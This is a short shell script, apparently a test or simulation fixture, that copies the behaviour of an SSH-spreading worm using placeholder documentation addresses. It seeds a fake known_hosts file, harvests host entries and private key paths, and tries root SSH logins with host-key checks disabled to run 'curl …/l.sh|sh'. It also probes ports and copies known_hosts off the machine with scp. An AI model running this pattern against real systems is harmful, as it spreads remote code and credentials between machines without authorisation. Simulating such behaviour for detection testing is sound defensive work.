mkdir -p ~/.ssh; printf '192.0.2.15 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPZ\n|1|hash= x\nnode1.example.com,192.0.2.16 ssh-rsa AAAAB3\n' > ~/.ssh/known_hosts
hosts=$(cut -d' ' -f1 ~/.ssh/known_hosts | tr ',' '\n' | grep -oE '\b([0-9]{1,3}\.){3}[0-9]{1,3}\b' | sort -u)
keys=$(find ~/ /home -maxdepth 3 -name 'id_*' 2>/dev/null | grep -vw pub)
users=$(awk -F: '$7 ~ /bash/ {print $1}' /etc/passwd | sort -u | head -1)
echo $hosts
for h in $hosts; do for u in root; do
  timeout 2 ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=1 -p 22 $u@$h "curl http://192.0.2.66/l.sh|sh" 2>&1 | sed 's/port 22: .*/port 22/'
done; done
for p in 22 445; do (timeout 1 bash -c "echo > /dev/tcp/192.0.2.15/$p") 2>/dev/null && echo open $p || echo closed $p; done
timeout 2 nc -z -w 1 192.0.2.16 22; echo nc $?
timeout 2 scp -o ConnectTimeout=1 -P 22 ~/.ssh/known_hosts root@192.0.2.16:/tmp/k 2>/dev/null; echo scp $?
seq 1 3 | xargs -I{} -P 2 sh -c 'echo 192.0.2.{}' | sort
